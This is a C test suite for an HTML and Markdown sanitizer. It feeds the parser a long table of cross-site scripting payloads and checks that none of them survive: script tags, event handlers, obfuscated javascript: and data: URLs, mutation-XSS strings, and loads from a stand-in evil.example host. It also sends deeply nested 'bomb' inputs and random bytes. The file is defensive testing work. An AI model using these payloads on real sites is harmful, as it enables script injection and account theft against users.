/* HTML that wants more than to be read. Nothing of what it wants comes through: not into the blocks,
 * not into the HTML that is written of them, nor into the Markdown, not even where that is given to a
 * program that lets HTML in Markdown be HTML. */

#include "markup/reprise-html.h"
#include "markup/reprise-markdown.h"
#include "markup/reprise-markdown-writer.h"
#include "support/test-blocks.h"

#include <cmark.h>
#include <libxml/HTMLparser.h>
#include <stdlib.h>
#include <string.h>

static const char * const payloads[] = {
  /* Scripts, in all ways of writing them. */
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt >alert(1)</sCrIpT >",
  "<script src=https://evil.example/x.js></script>",
  "<script\n>alert(1)</script\n>",
  "<script\x09src='https://evil.example/x.js'></script>",
  "<script/x>alert(1)</script>",
  "<script/src=data:,alert(1)>",
  "<script>alert(1)",
  "<script><!-- </script> --><b>x</b>",
  "<script><script>alert(1)</script></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert('</script><img src=x onerror=alert(1)>')</script>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!DOCTYPE html [<!ENTITY a '<script>alert(1)</script>'>]>&a;",
  "</p><script>alert(1)</script><p>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "&amp;lt;script&amp;gt;alert(1)",
  "\xC0\xBCscript\xC0\xBE" "alert(1)\xC0\xBC/script\xC0\xBE",
  "\xEF\xBC\x9Cscript\xEF\xBC\x9E" "alert(1)",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  /* Handlers. */
  "<img src=x onerror=alert(1)>",
  "<img src='https://b.example/c.png' onload=alert(1)>",
  "<img src=https://b.example/c.png onerror=\"alert(1)\" alt='x'>",
  "<img/src=x/onerror=alert(1)>",
  "<img\x0Csrc=x\x0Conerror=alert(1)>",
  "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
  "<img src=x:x onerror=alert(1)//",
  "<img src=`x`onerror=alert(1)>",
  "<img alt='\"><script>alert(1)</script>' src=https://b.example/c.png>",
  "<img src='https://b.example/c.png' alt='x\" onerror=\"alert(1)'>",
  "<img title=\"' onerror='alert(1)\" src=https://b.example/c.png>",
  "<a href='https://b.example' onclick=alert(1)>x</a>",
  "<a href='https://b.example' onmouseover='alert(1)' style='x'>x</a>",
  "<a href=https://b.example/\"onmouseover=alert(1)//>x</a>",
  "<a href='https://b.example/' title='\"onclick=\"alert(1)'>x</a>",
  "<body onload=alert(1)><p>x</p></body>",
  "<p onpointerenter=alert(1)>x</p>",
  "<div onanimationstart=alert(1) style='animation:x'>x</div>",
  "<b onclick=alert(1)//>x</b>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<x onfocus=alert(1) tabindex=0 id=x>x</x>",
  "<ul onclick=alert(1)><li onclick=alert(1)>x</ul>",
  "<blockquote cite='javascript:alert(1)' onclick=alert(1)>x</blockquote>",
  "<table background='javascript:alert(1)'><td background=javascript:alert(1)>x</table>",
  /* Addresses that run. */
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='\x01javascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\r\nscript:alert(1)'>x</a>",
  "<a href='javascript\n:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='java&#x09;script:alert(1)'>x</a>",
  "<a href='java&Tab;script:alert(1)'>x</a>",
  "<a href='java&NewLine;script:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='javascript&#58;alert(1)'>x</a>",
  "<a href='javascript&#x3A;alert(1)'>x</a>",
  "<a href='javascript&#0000058alert(1)'>x</a>",
  "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
  "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115cript:alert(1)'>x</a>",
  "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
  "<a href='java\0script:alert(1)'>x</a>",
  "<a href='javascript://https://b.example/%0Aalert(1)'>x</a>",
  "<a href='javascript\xEF\xBC\x9A" "alert(1)'>x</a>",
  "<a href='feed:javascript:alert(1)'>x</a>",
  "<a href='view-source:javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='VBScript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='DATA:,x'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='blob:https://b.example/1'>x</a>",
  "<a href='filesystem:https://b.example/1'>x</a>",
  "<a href='about:blank'>x</a>",
  "<a href='still:0f'>x</a>",
  "<a href='//b.example\\@evil.example'>x</a>",
  "<a href='https:\\\\evil.example'>x</a>",
  "<a href='https:evil'>x</a>",
  "<a href='http://'>x</a>",
  "<a href>x</a><a href=''>x</a><a href='#'>x</a>",
  "<a href='javascript:alert(1)' href='https://b.example'>x</a>",
  "<a xlink:href='javascript:alert(1)'>x</a>",
  "<img src='javascript:alert(1)' alt='x'>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt='x'>",
  "<img src='vbscript:msgbox(1)'>",
  "<img src='still:0f' alt='x'>",
  "<img src='mailto:me@b.example'>",
  "<img srcset='javascript:alert(1) 2x, data:,x 3x' alt='x'>",
  "<img data-src='javascript:alert(1)' src='data:,x' alt='x'>",
  "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
  "<input type=image src='javascript:alert(1)'>",
  /* What a page is based on, and where it goes. */
  "<base href='javascript:/'><a href='alert(1)'>x</a>",
  "<base href='javascript:alert(1)//'><a href='#'>x</a><img src='x'>",
  "<base href='data:text/html,'><a href='x'>x</a>",
  "<base href='https://b.example/'><a href='javascript:alert(1)'>x</a>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
  "<meta charset=utf-7><p>+ADw-script+AD4-</p>",
  "<link rel=stylesheet href='javascript:alert(1)'>",
  "<link rel=import href='https://evil.example/x.html'>",
  /* What is embedded, drawn, or asked. */
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe><script>alert(1)</script><p>x</iframe>",
  "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
  "<object data='javascript:alert(1)'><p>x</p></object>",
  "<object data='data:text/html,x'><param name=x value=y></object>",
  "<embed src='data:image/svg+xml,x'>",
  "<applet code=x>x</applet>",
  "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
  "<form><input name=x autofocus onfocus=alert(1)></form>",
  "<button onclick=alert(1)>x</button><textarea onfocus=alert(1)>x</textarea>",
  "<select onchange=alert(1)><option>x</select>",
  "<isindex action='javascript:alert(1)'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
  "<svg/onload=alert(1)//",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<math><maction actiontype='statusline#https://b.example' xlink:href='data:,x'>x</maction></math>",
  "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<canvas onclick=alert(1)>x</canvas>",
  "<template><script>alert(1)</script></template>",
  "<noscript><img src=x onerror=alert(1)></noscript>",
  "<portal src='javascript:alert(1)'>",
  "<dialog open onclick=alert(1)>x</dialog>",
  "<xml id=x><a><b>&lt;script&gt;</b></a></xml>",
  /* Text that becomes tags when it is written and read again. */
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<table><caption><svg><title><table><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<plaintext><script>alert(1)</script>",
  "<pre>&lt;/code>&lt;/pre>&lt;script>alert(1)&lt;/script></pre>",
  "<pre><code class='language-\"><script>alert(1)</script>'>x</code></pre>",
  "<pre><code class='language-x\" onclick=\"alert(1)'>x</code></pre>",
  "<code>`&lt;script>alert(1)&lt;/script>`</code>",
  "<a title='\"></a><script>alert(1)</script>' href='https://b.example'>x</a>",
  "<p>`&lt;img src=x onerror=alert(1)&gt;</p>",
  "<p>\\&lt;script&gt;alert(1)</p>",
  "<p>&lt;!-- --&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "<p>&lt;javascript:alert(1)&gt;</p>",
  "<p>&lt;https://b.example/&gt;&lt;svg/onload=alert(1)&gt;</p>",
  "<p>[x](javascript:alert(1)) ![x](data:,x)</p>",
  "<p>[x]: javascript:alert(1)</p><p>[x] [x][]</p>",
  "<p>[x]: &lt;javascript:alert(1)&gt; \"y\"<br>[x]</p>",
  "<em>[x]</em>(javascript:alert(1))",
  "[<b>x](javascript:alert(1))</b>",
  "<a href='https://b.example/)%20[x](javascript:alert(1)'>x</a>",
  "<a href='https://b.example'>x](javascript:alert(1) \"</a>",
  "<a href='https://b.example' title='x\") [y](javascript:alert(1) \"'>x</a>",
  "<img src=https://b.example/c.png alt='x](javascript:alert(1)) ![y'>",
  "<p>&amp;#x3c;script&amp;#x3e;alert(1)</p>",
  "<h1>&lt;script&gt;<br>alert(1)&lt;/script&gt;</h1>",
  "<ul><li>&lt;script&gt;alert(1)</li></ul>",
  "<p>a<br>&lt;div onclick=alert(1)&gt;</p>",
  /* Styles. */
  "<style>@import 'https://evil.example/x.css'; p { background: url(javascript:alert(1)) }</style>",
  "<style><!--</style><script>alert(1)//--></script>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x</p>",
  "<div style='position:fixed;inset:0'>x</div>",
  "<span style='font-weight:bold;behavior:url(x.htc)'>x</span>",
  /* Tags that are none. */
  "<a href='https://b.example",
  "<img src='https://b.example/c.png' alt='",
  "<p <script>alert(1)</script>>x</p>",
  "< script>alert(1)</ script>",
  "<\0script>alert(1)</script>",
  "<script\0>alert(1)</script>",
  "</script><script>alert(1)",
  "<a<b href='javascript:alert(1)'>x",
  "<a href=\"javascript:alert(1)\"\"x\">x</a>",
  "<0><?><!><%><#><script>alert(1)</script>",
};

/* `before`, many times `unit`, `middle`, many times `after`. */
typedef struct
{
  const char *name;
  const char *before;
  const char *unit;
  const char *middle;
  const char *after;
  guint       times;
  gboolean    keeps;  /* the word in the middle */
} BombRow;

static const BombRow bomb_rows[] = {
  { "divisions", "", "<div>", "kept", "</div>", 100000, TRUE },
  { "unclosed-divisions", "", "<div>", "kept", "", 100000, TRUE },
  { "bold", "", "<b>", "kept", "", 100000, TRUE },
  { "closed-bold", "", "<b>", "kept", "</b>", 100000, TRUE },
  { "bold-words", "", "<b>a <i>", "kept", "", 100000, TRUE },
  { "spans", "", "<span>", "kept", "</span>", 100000, TRUE },
  { "unknown", "", "<x-y>", "kept", "", 100000, TRUE },
  { "quotes", "", "<blockquote>", "kept", "</blockquote>", 100000, TRUE },
  { "lists", "", "<ul><li>", "kept", "</li></ul>", 100000, TRUE },
  { "items", "<ul>", "<li>", "kept", "", 100000, TRUE },
  { "terms", "", "<dl><dt>", "kept", "", 100000, TRUE },
  { "tables", "", "<table><tr><td>", "kept", "", 100000, TRUE },
  { "links", "", "<a href='http://b.c'>", "kept", "", 100000, TRUE },
  { "paragraphs", "", "<p>", "kept", "", 100000, TRUE },
  { "short-paragraphs", "", "<p>x", "kept", "", 1000000, TRUE },
  { "short-items", "", "<ul><li>x</ul>", "kept", "", 300000, TRUE },
  { "rules", "", "<hr>", "kept", "", 1000000, TRUE },
  { "paragraphs-in-bold", "", "<b><p>", "kept", "", 100000, TRUE },
  { "ends", "<div>", "</b>", "kept", "</i>", 200000, TRUE },
  { "deep-ends", "<i><i><i><i><i><i><i><i>", "<u></b>", "kept", "", 100000, TRUE },
  { "attributes", "kept <p", " a%u", "", "", 200000, TRUE },
  { "one-attribute", "kept <p title='", "0123456789", "", "", 1024 * 1024, TRUE },
  { "closed-attribute", "kept <p title='", "0123456789", "'>kept", "", 1024 * 1024, TRUE },
  { "data-image", "kept <img src='data:image/png;base64,", "0123456789", "'>kept", "", 1024 * 1024,
    TRUE },
  { "quotes-in-tags", "kept ", "<a title='", "", "", 100000, TRUE },
  { "tag-ends", "kept ", "<a ", "", "", 100000, TRUE },
  { "comments", "kept ", "<!-- ", "", "", 100000, TRUE },
  { "entities", "kept ", "&", "", "", 1000000, TRUE },
  { "numbers", "kept ", "&#x41", "", "", 200000, TRUE },
  { "scripts", "kept ", "<script>", "", "", 100000, TRUE },
  { "script-ends", "kept <script>", "</scrip", "", "", 100000, TRUE },
  { "images", "kept ", "<img src=http://b.c/d>", "", "", 100000, TRUE },
  { "breaks", "kept ", "<br>", "kept", "", 300000, TRUE },
  { "emphasis", "kept ", "a<b>“</b>", "", "", 100000, TRUE },
  { "one-letter-emphasis", "kept ", "<b>“</b><i>a</i>", "", "", 100000, TRUE },
  { "bold-in-italics", "kept <i>", "<b>a</b>b", "", "", 100000, TRUE },
  { "captions", "kept ", "<figure><img src=http://b.c/d><figcaption>a</figcaption></figure>", "", "",
    50000, TRUE },
  { "code-lines", "kept <pre>a", "\n", "b</pre>", "", 300000, TRUE },
  { "stars", "kept ", "*", "", "", 300000, TRUE },
  { "brackets", "kept ", "[", "", "", 300000, TRUE },
  { "ticks", "kept <code>", "`a``", "", "", 100000, TRUE },
};

static const char * const known_elements[] = {
  "a", "blockquote", "br", "cite", "code", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5",
  "h6", "hr", "img", "li", "ol", "p", "pre", "span", "strong", "ul", NULL,
};

static const char * const known_attributes[] = {
  "alt", "class", "href", "src", "start", "title", NULL,
};

static gboolean
is_address (const char *address)
{
  return g_str_has_prefix (address, "http://") || g_str_has_prefix (address, "https://") ||
         g_str_has_prefix (address, "mailto:");
}

static void
check_element_cb (void           *html,
                  const xmlChar  *name,
                  const xmlChar **attributes)
{
  if (!g_strv_contains (known_elements, (const char *) name))
    g_error ("There is a %s in %s", name, (const char *) html);

  for (gsize i = 0; attributes != NULL && attributes[i] != NULL; i += 2)
    {
      const char *attribute = (const char *) attributes[i];

      if (!g_strv_contains (known_attributes, attribute))
        g_error ("There is a %s in %s", attribute, (const char *) html);
      if ((g_str_equal (attribute, "href") || g_str_equal (attribute, "src")) &&
          !is_address ((const char *) attributes[i + 1]))
        g_error ("There is an address in %s", (const char *) html);
    }
}

/* Reads what was written as a stranger would. */
static void
check_page (char *html)
{
  htmlParserCtxtPtr context = htmlNewParserCtxt ();

  memset (context->sax, 0, sizeof (htmlSAXHandler));
  context->sax->initialized = 1;
  context->sax->startElement = check_element_cb;
  context->userData = html;
  htmlCtxtReadMemory (context, html, (int) strlen (html), NULL, "UTF-8",
                      HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING | HTML_PARSE_NOIMPLIED);
  htmlFreeParserCtxt (context);
}

static void
check_targets (GPtrArray  *blocks,
               const char *from)
{
  for (guint i = 0; i < blocks->len; i++)
    {
      const RepriseBlock *block = blocks->pdata[i];

      if (block->children != NULL)
        {
          check_targets (block->children, from);
          continue;
        }
      for (guint s = 0; s < block->spans->len; s++)
        {
          const RepriseSpan *span = &g_array_index (block->spans, RepriseSpan, s);

          if ((span->kind == REPRISE_SPAN_LINK || span->kind == REPRISE_SPAN_IMAGE) &&
              (!is_address (span->target) ||
               !reprise_span_is_safe_target (span->kind, span->target)))
            g_error ("%s leads to %s", from, span->target);
        }
    }
}

static void
check_payload (const char *html,
               gsize       length,
               const char *base)
{
  g_autoptr (GPtrArray) blocks = reprise_html_parse (html, (gssize) length, base);
  g_autofree char *dumped = test_blocks_dump (blocks);
  g_autofree char *written = reprise_html_write (blocks);
  g_autofree char *markdown = reprise_markdown_write (blocks);
  g_autofree char *rendered = cmark_markdown_to_html (markdown, strlen (markdown), CMARK_OPT_UNSAFE);
  g_autoptr (GPtrArray) from_html = reprise_html_parse (written, -1, NULL);
  g_autoptr (GPtrArray) from_markdown = reprise_markdown_parse (markdown, -1);

  test_blocks_check (blocks);
  g_assert_true (g_str_has_prefix (dumped, "p(kept)"));
  check_targets (blocks, html);
  check_targets (from_html, written);
  check_targets (from_markdown, markdown);
  check_page (written);
  check_page (rendered);
}

/* A payload may have NULs, so its length is that of its place in the table. */
static void
test_payloads (void)
{
  g_assert_cmpuint (G_N_ELEMENTS (payloads), >=, 100);

  for (gsize i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autoptr (GString) html = g_string_new ("<p>kept</p>");
      gsize length = strlen (payloads[i]);

      /* The compiler puts what is behind a NUL where it is. */
      if (payloads[i][length - 1] != '>' && (g_str_has_suffix (payloads[i], "java") ||
                                             g_str_has_suffix (payloads[i], "<") ||
                                             g_str_has_suffix (payloads[i], "<script")))
        length += 1 + strlen (payloads[i] + length + 1);

      g_string_append_len (html, payloads[i], (gssize) length);
      check_payload (html->str, html->len, "https://example.org/blog/");
      check_payload (html->str, html->len, NULL);
      check_payload (html->str, html->len, "javascript:alert(1)");
    }
}

/* One payload in another, as if somebody had looked for holes. */
static void
test_mixed_payloads (void)
{
  for (int i = 0; i < 20000; i++)
    {
      g_autoptr (GString) html = g_string_new (NULL);
      const int parts = g_test_rand_int_range (2, 5);

      for (int n = 0; n < parts; n++)
        {
          const char *payload = payloads[g_test_rand_int_range (0, G_N_ELEMENTS (payloads))];
          const gsize at = (gsize) g_test_rand_int_range (0, (int) html->len + 1);

          g_string_insert (html, (gssize) at, payload);
        }

      g_string_prepend (html, "<p>kept</p>");
      check_payload (html->str, html->len, "https://example.org/blog/");
    }
}

static void
append_many (GString    *out,
             const char *unit,
             guint       times)
{
  const char *number = strstr (unit, "%u");

  for (guint i = 0; i < times; i++)
    {
      if (number == NULL)
        {
          g_string_append (out, unit);
          continue;
        }
      g_string_append_len (out, unit, number - unit);
      g_string_append_printf (out, "%u", i);
      g_string_append (out, number + 2);
    }
}

static gboolean
holds (GPtrArray  *blocks,
       const char *words)
{
  for (guint i = 0; i < blocks->len; i++)
    {
      const RepriseBlock *block = blocks->pdata[i];

      if (block->children != NULL ? holds (block->children, words)
                                  : strstr (block->text, words) != NULL)
        return TRUE;
    }

  return FALSE;
}

/* Neither time nor stack may grow as the bomb wants; where they do, this hangs or crashes. */
static void
test_bomb (gconstpointer data)
{
  const BombRow *row = data;
  g_autoptr (GString) html = g_string_new (row->before);
  g_autoptr (GPtrArray) blocks = NULL;
  g_autofree char *markdown = NULL;
  g_autofree char *written = NULL;
  gint64 begin;

  append_many (html, row->unit, row->times);
  g_string_append (html, row->middle);
  append_many (html, row->after, row->times);

  begin = g_get_monotonic_time ();
  blocks = reprise_html_parse (html->str, (gssize) html->len, "https://example.org/");
  g_test_message ("%.3f s", (double) (g_get_monotonic_time () - begin) / G_USEC_PER_SEC);
  begin = g_get_monotonic_time ();
  markdown = reprise_markdown_write (blocks);
  written = reprise_html_write (blocks);
  g_test_message ("%.3f s to write", (double) (g_get_monotonic_time () - begin) / G_USEC_PER_SEC);

  test_blocks_check (blocks);
  check_targets (blocks, row->name);
  if (row->keeps)
    g_assert_true (holds (blocks, "kept"));
}

/* Bytes that are no text at all. */
static void
test_bytes (void)
{
  g_autofree char *nuls = g_malloc0 (10 * 1024 * 1024);
  g_autoptr (GPtrArray) nothing = reprise_html_parse (nuls, 10 * 1024 * 1024, NULL);
  g_autoptr (GPtrArray) blocks = NULL;
  g_autofree char *dumped = NULL;

  g_assert_cmpuint (nothing->len, ==, 0);

  memset (nuls, 0xFF, 1024 * 1024);
  blocks = reprise_html_parse (nuls, 1024 * 1024, NULL);
  test_blocks_check (blocks);
  g_assert_cmpuint (blocks->len, ==, 1);

  for (int i = 0; i < 2000; i++)
    {
      g_autoptr (GPtrArray) random = NULL;

      for (int n = 0; n < 200; n++)
        nuls[n] = (char) g_test_rand_int_range (0, 256);
      random = reprise_html_parse (nuls, 200, NULL);
      test_blocks_check (random);
    }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/html-hostile/payloads", test_payloads);
  g_test_add_func ("/html-hostile/mixed-payloads", test_mixed_payloads);
  g_test_add_func ("/html-hostile/bytes", test_bytes);

  for (gsize i = 0; i < G_N_ELEMENTS (bomb_rows); i++)
    {
      g_autofree char *path = g_strconcat ("/html-hostile/bomb/", bomb_rows[i].name, NULL);

      g_test_add_data_func (path, &bomb_rows[i], test_bomb);
    }

  return g_test_run ();
}
